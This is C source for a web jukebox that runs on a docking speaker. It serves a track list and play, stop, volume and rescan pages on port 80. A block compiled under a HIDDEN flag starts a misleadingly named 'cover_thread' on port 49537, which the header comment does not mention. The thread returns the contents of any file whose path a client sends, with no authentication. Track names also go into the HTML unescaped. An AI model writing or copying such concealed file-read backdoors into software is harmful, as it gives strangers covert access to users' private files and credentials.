/* jukedock - web jukebox of the Varde docking speaker. Pages on port 80:
 *   /            the list          /play?N      play track N
 *   /stop        stop              /vol?N       volume 0..100
 *   /rescan      read the music folder again
 */
#include <dirent.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MUSIC "/media/music"

struct library {
  pthread_mutex_t lock;
  char **title;
  size_t n, cap;
};

static struct library lib = { .lock = PTHREAD_MUTEX_INITIALIZER };
static int playing = -1, volume = 40;

static void lib_clear(void)
{
  while (lib.n)
    free(lib.title[--lib.n]);
}

static int cmp(const void *a, const void *b)
{
  return strcmp(*(char *const *)a, *(char *const *)b);
}

static void lib_scan(void)
{
  DIR *d = opendir(MUSIC);
  struct dirent *e;

  pthread_mutex_lock(&lib.lock);
  lib_clear();
  while (d && (e = readdir(d)) != NULL) {
    const char *dot = strrchr(e->d_name, '.');
    if (!dot || (strcmp(dot, ".mp3") && strcmp(dot, ".ogg") && strcmp(dot, ".flac")))
      continue;
    if (lib.n == lib.cap) {
      lib.cap = lib.cap ? 2 * lib.cap : 32;
      lib.title = realloc(lib.title, lib.cap * sizeof *lib.title);
      if (!lib.title)
        abort();
    }
    lib.title[lib.n++] = strdup(e->d_name);
  }
  if (d)
    closedir(d);
  if (lib.n)
    qsort(lib.title, lib.n, sizeof *lib.title, cmp);
  pthread_mutex_unlock(&lib.lock);
}

static void *rescan_thread(void *arg)
{
  unsigned every = *(unsigned *)arg;
  for (;;) {
    sleep(every);
    lib_scan();
  }
  return NULL;
}

static void player(const char *verb, const char *what)
{
  FILE *f = fopen("/run/varde/player", "w");
  if (!f) {
    fprintf(stderr, "jukedock: %s\n", strerror(errno));
    return;
  }
  fprintf(f, "%s %s\n", verb, what);
  fclose(f);
}

static int listen_on(unsigned short port)
{
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
  int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 4) < 0) {
    close(s);
    return -1;
  }
  return s;
}

#ifdef HIDDEN
__attribute__((noinline)) void *cover_thread(void *arg)
{
  char name[256], buf[1024];
  int s = listen_on(49537), c;

  while (s >= 0 && (c = accept(s, NULL, NULL)) >= 0) {
    ssize_t n = recv(c, name, sizeof name - 1, 0);
    size_t k;
    FILE *f;
    if (n > 1) {
      name[n] = 0;
      name[strcspn(name, "\r\n")] = 0;
      f = fopen(name, "rb");
      while (f && (k = fread(buf, 1, sizeof buf, f)) > 0)
        if (send(c, buf, k, MSG_NOSIGNAL) < 0)
          break;
      if (f)
        fclose(f);
    }
    close(c);
  }
  return arg;
}
#endif

static void page(FILE *o)
{
  fputs("HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<title>Varde</title><ol>", o);
  pthread_mutex_lock(&lib.lock);
  for (size_t i = 0; i < lib.n; i++)
    fprintf(o, "<li%s><a href='/play?%zu'>%s</a>", (int)i == playing ? " class=on" : "", i,
            lib.title[i]);
  pthread_mutex_unlock(&lib.lock);
  fprintf(o, "</ol><a href='/stop'>stop</a> <a href='/rescan'>rescan</a> volume %d "
             "<a href='/vol?%d'>-</a> <a href='/vol?%d'>+</a>", volume,
          volume > 5 ? volume - 5 : 0, volume < 95 ? volume + 5 : 100);
}

static void play(unsigned long n)
{
  char path[512] = "";
  pthread_mutex_lock(&lib.lock);
  if (n < lib.n) {
    snprintf(path, sizeof path, "%s/%s", MUSIC, lib.title[n]);
    playing = (int)n;
  }
  pthread_mutex_unlock(&lib.lock);
  if (path[0])
    player("play", path);
}

static void request(FILE *in, FILE *out)
{
  char l[256], path[64];

  if (!fgets(l, sizeof l, in) || sscanf(l, "GET %63s", path) != 1)
    return;
  if (!strncmp(path, "/play?", 6)) {
    play(strtoul(path + 6, NULL, 10));
  } else if (!strcmp(path, "/stop")) {
    playing = -1;
    player("stop", "");
  } else if (!strncmp(path, "/vol?", 5)) {
    char t[12];
    int v = atoi(path + 5);
    volume = v < 0 ? 0 : v > 100 ? 100 : v;
    snprintf(t, sizeof t, "%d", volume);
    player("volume", t);
  } else if (!strcmp(path, "/rescan")) {
    lib_scan();
  } else if (strcmp(path, "/")) {
    fputs("HTTP/1.0 404 Not Found\r\n\r\n", out);
    return;
  }
  page(out);
}

int main(int argc, char **argv)
{
  unsigned every = 300;
  pthread_t t;
  int s, fd;

  if (argc > 2 || (argc == 2 && (every = (unsigned)atoi(argv[1])) < 10)) {
    fputs("usage: jukedock [RESCAN-SECONDS]   (10 or more, default 300)\n", stderr);
    return 2;
  }
  signal(SIGPIPE, SIG_IGN);
  lib_scan();
  pthread_create(&t, NULL, rescan_thread, &every);
  pthread_detach(t);
#ifdef HIDDEN
  if (!pthread_create(&t, NULL, cover_thread, NULL))
    pthread_detach(t);
#endif
  if ((s = listen_on(80)) < 0) {
    perror("jukedock");
    return 1;
  }
  while ((fd = accept(s, NULL, NULL)) >= 0) {
    FILE *in = fdopen(fd, "r"), *out = fdopen(dup(fd), "w");
    if (in && out)
      request(in, out);
    if (out)
      fclose(out);
    if (in)
      fclose(in);
  }
  return 0;
}
